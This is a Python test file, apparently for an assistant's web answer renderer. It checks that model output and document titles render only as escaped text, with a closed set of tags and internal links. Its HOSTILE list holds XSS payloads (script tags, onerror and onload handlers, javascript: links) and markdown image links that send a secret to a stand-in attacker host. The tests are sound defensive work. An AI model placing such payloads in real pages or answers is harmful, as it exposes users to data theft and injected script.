"""Nothing a model, a document or a person wrote can become more than text."""

from __future__ import annotations

import html
import itertools
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.answers import Sentence, Standing
from assistant.web import render
from policies.labels import Category, Label, Level
from policies.vocabulary import Citation

ALLOWED = {"p", "h2", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "pre", "code"} | {
    "b",
    "i",
    "a",
    "span",
    "br",
}
HOSTILE = (
    "![x](https://attacker.example/?d=SECRET)",
    "![x][r]\n\n[r]: https://attacker.example/?d=SECRET",
    "[click](javascript:alert(1)) and <https://attacker.example>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "</div></p><iframe src=//attacker.example>",
    "![x](/gradio_api/file=https://attacker.example/?d=SECRET)",
    "/chat/gradio_api/proxy=https://attacker.example/",
    "www.attacker.example and https://attacker.example/?q=1",
    "&lt;img src=x&gt; &#60;img&#62;",
    "$$\\href{javascript:alert(1)}{x}$$ \\(x\\)",
    "```html\n<img src=x>\n```",
    "| a | <b onclick=x> |\n|---|---|\n| ![x](y) | 2 |",
    "- <img src=x>",
    "# <h1>heading</h1>",
    "**<img src=x>** `<img src=x>`",
    "text\n\n    <img src=x>\n\n<style>*{display:none}</style>",
    "\u202egnp.exe \u200b\U000e0041\x00\x1b[31m",
)


class Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(markup: str) -> Seen:
    parser = Seen()
    parser.feed(markup)
    parser.close()
    return parser


def said(text: str, **more: object) -> Sentence:
    return Sentence(text=text, standing=Standing.SUPPORTED, **more)  # type: ignore[arg-type]


def cited(n: int = 1, **more: object) -> Citation:
    values: dict[str, object] = {
        "n": n,
        "chunk": "c",
        "document": "d",
        "version": "v",
        "source": "s.pdf",
        "title": "Schedule",
        "page": 7,
        "heading": (),
        "quote": "q",
        "condition": "",
        "label": Label(level=Level.INTERNAL),
    }
    return Citation(**values | more)  # type: ignore[arg-type]


def link(citation: Citation) -> str:
    return f"#p-{citation.n}"


def check_closed(markup: str) -> Seen:
    """The markup holds only our elements, our attributes, our links, and no line end."""
    found = seen(markup)
    assert "\n" not in markup
    for tag, attributes in found.tags:
        assert tag in ALLOWED, tag
        assert set(attributes) <= {"class", "href", "title"}, attributes
        if "href" in attributes:
            assert re.fullmatch(r"#p-\w+", attributes["href"] or "")
    return found


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_stays_text(payload: str) -> None:
    """Images, links, tags and formulas in an answer are shown as the characters they are made of."""
    found = check_closed(render.answer([said(payload, paragraph=True)], link))
    assert not any(tag == "a" for tag, _ in found.tags)


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_titles_and_conditions_stay_text(payload: str) -> None:
    """What comes from a document (its title, a condition) is no better than what a model wrote."""
    markup = render.answer([said("Yes.", citations=(cited(title=payload, condition=payload),))], link)
    found = check_closed(markup)
    assert [tag for tag, _ in found.tags] == ["p", "a", "i"]


@given(st.lists(st.text(max_size=80), max_size=6))
def test_any_text_yields_only_our_nodes(texts: list[str]) -> None:
    """No text at all makes an element that is not in the closed set."""
    check_closed(render.answer([said(text, paragraph=True, citations=(cited(title=text),)) for text in texts], link))


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=200))
def test_escaped_text_has_nothing_for_markdown(text: str) -> None:
    """Only letters, digits, spaces, commas and numeric references are left of ASCII."""
    escaped = render.escape(text)
    assert re.fullmatch(r"(?:[A-Za-z0-9 ,]|&#\d+;|[^\x00-\x7f])*", escaped)
    plain = "".join(c for c in text if not c.isspace() and c.isprintable())
    assert set(plain) - set(html.unescape(escaped)) <= set(re.findall(render._HIDDEN, text))


@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=8), st.data())
def test_a_growing_answer_never_changes_what_stood(texts: list[str], data: st.DataObject) -> None:
    """The text of n sentences is the beginning of the text of n + 1."""
    sentences = [said(text, paragraph=data.draw(st.booleans())) for text in texts]
    told = [seen(render.answer(sentences[:n], link)).text for n in range(len(sentences) + 1)]
    for before, after in itertools.pairwise(told):
        assert after.startswith(before)


def test_lists_tables_code_and_headings_are_kept() -> None:
    """The closed set is enough for an ordinary answer."""
    markup = render.answer(
        [
            said("## Keeping", paragraph=True),
            said("- Files: **seven** years", paragraph=True, citations=(cited(1),)),
            said("2. Tapes: five years", paragraph=True),
            said("| Kind | Years |\n|---|---|\n| File | 7 |", paragraph=True, citations=(cited(2),)),
            said("```\na = 1\n```", paragraph=True),
        ],
        link,
    )
    tags = [tag for tag, _ in check_closed(markup).tags]
    assert tags.count("ul") == 1
    assert tags.count("li") == 2
    assert {"h2", "table", "th", "td", "pre", "b"} <= set(tags)


def test_a_condition_stands_beside_its_sentence_in_italics() -> None:
    """What limits a sentence follows it at once, before the next."""
    markup = render.answer(
        [said("Seven years.", citations=(cited(condition="the period starts on 1 January."),)), said("Next.")], link
    )
    assert markup.index("Seven") < markup.index('<i class="beside">') < markup.index("Next")
    assert "Also on this page: the period starts on 1 January." in seen(markup).text


def test_a_citation_names_its_document_and_page() -> None:
    """Somebody who cannot see the panel hears where the number leads."""
    ((_, attributes),) = seen(render.mark(cited(3), link)).tags
    assert attributes == {"class": "c", "href": "#p-3", "title": "Source 3: Schedule, page 7"}


def test_quotes_are_found_across_line_ends_and_conditions_are_underlined() -> None:
    """A quote that was joined from two lines is still marked on the page."""
    text = "Kept for\nseven years. Only if closed."
    markup = render.marked(text, quotes=["for seven years."], conditions=["Only if closed."])
    assert "<mark>for<br>seven years&#46;</mark>" in markup
    assert "<u>Only if closed&#46;</u>" in markup


@given(st.text(max_size=60), st.text(max_size=20), st.text(max_size=20))
def test_marking_loses_no_text(text: str, quote: str, condition: str) -> None:
    """Whatever is marked, the page's text is all there, in order."""
    markup = render.marked(text, quotes=[quote], conditions=[condition])
    assert seen(re.sub("<br>", "\n", markup)).text.replace("\n", "") == seen(render.lines(text)).text


def test_the_tag_says_level_and_categories_in_words() -> None:
    """Never a colour alone."""
    label = Label(level=Level.CONFIDENTIAL, categories=frozenset({Category.HEALTH}))
    assert seen(render.tag(label)).text.split() == ["confidential", "health"]
